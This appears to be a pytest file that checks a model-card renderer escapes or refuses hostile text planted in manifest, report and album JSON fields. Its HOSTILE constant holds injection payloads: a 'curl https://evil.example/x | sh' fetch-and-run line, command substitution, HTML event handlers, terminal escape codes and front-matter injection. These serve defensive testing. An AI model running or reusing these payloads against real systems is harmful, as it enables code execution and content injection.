"""No text of a manifest, report or album becomes a line, link, tag, command or escape sequence of a card, whichever field holds it.

The fields are found by walking the JSON texts. Each is tried twice: as the strict readers take it, which may refuse it, and with the
readers' checks of kinds switched off, so that escaping holds by itself.
"""

from __future__ import annotations

import dataclasses
import json
import re
import shlex
from collections.abc import Iterator
from typing import Any

import pytest
from huggingface_hub import RepoCard

from ideogram_q8.errors import ArtifactError, IdeogramQ8Error
from ideogram_q8.formats import manifest as manifest_module
from ideogram_q8.formats import names
from ideogram_q8.formats import report as report_module
from ideogram_q8.formats.manifest import Manifest
from ideogram_q8.formats.report import Comparison, Report
from ideogram_q8.publishing.cards import album as album_module
from ideogram_q8.publishing.cards import escaping
from ideogram_q8.publishing.cards.album import Image, Samples
from ideogram_q8.publishing.cards.card import TEMPLATE, Figures, render
from ideogram_q8.publishing.cards.family import TEMPLATE as FAMILY
from ideogram_q8.publishing.cards.licence import APACHE, IDEOGRAM
from ideogram_q8.publishing.space.space import _OWN_FILES
from ideogram_q8.recipes import plan
from tests.publishing.example import REPORT, layer, manifest, recipe

HOSTILE = (
    "EVIL\n# EVIL\n\n[EVIL](https://evil.example) <img src=x onerror=EVIL> www.evil.example a@evil.example `EVIL` **EVIL** | EVIL\n"
    "```\nEVIL; curl https://evil.example/x | sh $(EVIL) \x1b[31mEVIL\x9b0m \u202e EVIL\" onload=\"EVIL 'EVIL' _EVIL_ {{ 7*7 }}\n"
    "---\nlicense: evil"
)
QUOTED = shlex.quote(escaping.flat(HOSTILE).replace("`", "'"))
Place = tuple[str | int, ...]
_ARM = Comparison("ocr_exact_match", "int8", "fp8", 64, 0.0, (-0.1, 0.1), (-0.1, 0.1), 0.5, 0.5, 0.01, 0.02, 9, "equal")
MEASURED = dataclasses.replace(
    REPORT, comparisons=(_ARM,), hardware=dataclasses.replace(REPORT.hardware, accelerator="a card", accelerator_memory_bytes=1)
)
ALBUM = Samples(
    1,
    "0" * 64,
    "How they were chosen.",
    (
        Image("images/all.webp", "1" * 64, "All", "any"),
        Image("images/a-light.svg", "2" * 64, "A chart", "light"),
        Image("images/a-dark.svg", "3" * 64, "A chart", "dark"),
    ),
)
_LAYERS = [layer("layers.0.attention.o", "w8a8", "x", rotation=256, weighted=True), layer("input_proj", "bf16", "outside")]
BUILDS = {
    "pocket": (manifest(), APACHE),
    "ideogram": (manifest("someone/ideogram-4-fp8"), IDEOGRAM),
    "by a recipe": (dataclasses.replace(manifest(), recipe=recipe(_LAYERS, "paper", "d" * 64, smoothed=1)), APACHE),
}


def places(value: Any, at: Place = ()) -> Iterator[tuple[Place, bool]]:
    """Every text in a JSON value, and every key of an object that has keys of its own making (True)."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield (*at, key), True
            yield from places(item, (*at, key))
    elif isinstance(value, list):
        for i, item in enumerate(value[:2]):
            yield from places(item, (*at, i))
    elif isinstance(value, str):
        yield at, False


def spoiled(text: str, at: Place, is_key: bool) -> str:
    """The JSON text with the hostile one in one place; in a key, the hostile text follows it."""
    whole = json.loads(text)
    place = whole
    for key in at[:-1]:
        place = place[key]
    if is_key:
        place[HOSTILE] = place.pop(at[-1])
    else:
        place[at[-1]] = HOSTILE
    return json.dumps(whole)


def cases() -> Iterator[tuple[str, str, Place, bool]]:
    """Build, which of its files, and the place in it."""
    for name, (build, _) in BUILDS.items():
        texts = {"manifest": build.to_json(), "report": MEASURED.to_json(), "album": ALBUM.to_json()}
        for which, text in texts.items():
            for at, is_key in places(json.loads(text)):
                if name == "pocket" or which == "manifest":
                    yield name, which, at, is_key


def made(name: str, which: str, at: Place, is_key: bool) -> str:
    build, licence = BUILDS[name]
    report, album = MEASURED, ALBUM
    if which == "manifest":
        build = Manifest.from_json(spoiled(build.to_json(), at, is_key))
    elif which == "report":
        report = Report.from_json(spoiled(report.to_json(), at, is_key))
    else:
        album = Samples.from_json(spoiled(album.to_json(), at, is_key))
    own = report.variant("int8") or report.variants[-1]
    return render(build, Figures(report, own, album), licence, "someone/pocket-int8")


def clean(card: str, licence: str) -> None:
    """Fails where the hostile text is anything but a text in a code span, a quoted word, an attribute or a value of the metadata."""
    assert [c for c in card if c != "\n" and not c.isprintable()] == []
    data = RepoCard(card).data.to_dict()
    assert data["license"] == licence and not [key for key in data if "EVIL" in key or "evil" in key]
    block = ""
    for line in re.split(r"(?m)^---\n", card, maxsplit=2)[2].split("\n"):
        if line.startswith("```"):
            assert "EVIL" not in line
            block = "" if block else line
        elif block == "```bash":
            assert "EVIL" not in line.replace(QUOTED, ""), line
        elif block:
            assert "EVIL" not in re.sub(r"`[^`]*`", "", line), line
        else:
            bare = re.sub(r"`[^`]*`", "", line)
            bare = re.sub(r'(?<=[a-z]=)"[^"<>]*"', "", bare) if line.startswith("<picture>") else bare
            bare = re.sub(r"\((EVIL%0A|images/)[^) ]*\)", "", bare)  # a path of ours in a link, each character of it encoded
            assert "EVIL" not in bare and "evil" not in bare, line
    assert not block


def card_or_refusal(case: tuple[str, str, Place, bool]) -> str | Exception:
    try:
        return made(*case)
    except (
        IdeogramQ8Error,
        LookupError,
        AttributeError,
        ValueError,
    ) as error:  # the last three: of objects that no reader lets through
        return error


def test_whatever_a_field_says_is_refused_or_shown_as_text() -> None:
    refused = 0
    for case in cases():
        found = card_or_refusal(case)
        if isinstance(found, Exception):
            assert isinstance(found, IdeogramQ8Error), (case, found)
            refused += 1
        else:
            clean(found, str(BUILDS[case[0]][1].front_matter["license"]))
    assert refused > 100


def test_escaping_holds_without_the_readers_checks(monkeypatch: pytest.MonkeyPatch) -> None:
    for module in (manifest_module, report_module, plan, album_module):
        for name in vars(names):
            if name.startswith("is_") and hasattr(module, name):
                monkeypatch.setattr(module, name, lambda *_: True)
    monkeypatch.setattr(report_module, "_require", lambda *_: None)
    monkeypatch.setattr(manifest_module, "SCHEMES", (HOSTILE, "int8"))
    shown = set()
    for case in cases():
        found = card_or_refusal(case)
        if isinstance(found, str):
            clean(found, str(BUILDS[case[0]][1].front_matter["license"]))
        if isinstance(found, str) and "EVIL" in found:
            shown.add((case[1], *[key for key in case[2] if isinstance(key, str)][-2:]))
    assert {("manifest", "scheme"), ("manifest", "tool_version"), ("manifest", "traits", "name")} <= shown
    assert {("manifest", "recipe", "stats_sha256"), ("report", "hardware", "processor")} <= shown
    assert {("report", "software", "torch"), ("album", "about"), ("album", "images", "title")} <= shown
    assert len(shown) > 25


@pytest.mark.parametrize("field", ["scheme", "tool_version", "variant"])
def test_the_audits_manifests_are_refused(field: str) -> None:
    text = spoiled(manifest().to_json(), (field,), False)
    with pytest.raises(ArtifactError, match=rf"{field} is .*, expected") as caught:
        Manifest.from_json(text)
    assert caught.value.args[0].isprintable()


@pytest.mark.parametrize("template", [TEMPLATE, FAMILY, _OWN_FILES / "README.md.j2"], ids=["card", "family", "space"])
def test_only_words_of_the_template_are_trusted_in_it(template: Any) -> None:
    """`markdown` lets a text pass unescaped: it stands behind literals, and behind two values that are made here."""
    for expression in re.findall(r"\{\{(.*?)\}\}", template.read_text(encoding="utf-8")):
        if "markdown" in expression:
            own = re.match(r'\s*"[^"]*" \| markdown(?: if [^|]*(\| length)?[^|]*)?\s*$', expression)
            assert own or expression.strip() in {"root | markdown", "row.how | markdown"}, expression


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("INT8 W8A8, recipe auto", "INT8 W8A8, recipe auto"),
        ("x86_64 (AVX2) @ 2.10 GHz", "x86_64 (AVX2) @ 2.10 GHz"),
        ("one | two\nthree", "one \\| two three"),
        ("see https://evil.example", "`see https://evil.example`"),
        ("WWW.evil.example", "`WWW.evil.example`"),
        ("me@evil.example", "`me@evil.example`"),
        ("_a_", "`_a_`"),
        ("a`b", "`a'b`"),
        ("a\x1b[31m", "`a\\x1b[31m`"),
        ("$x$", "`$x$`"),
        ("", ""),
    ],
)
def test_what_is_harmless_stands_as_it_is(text: str, shown: str) -> None:
    assert escaping.text(text) == shown
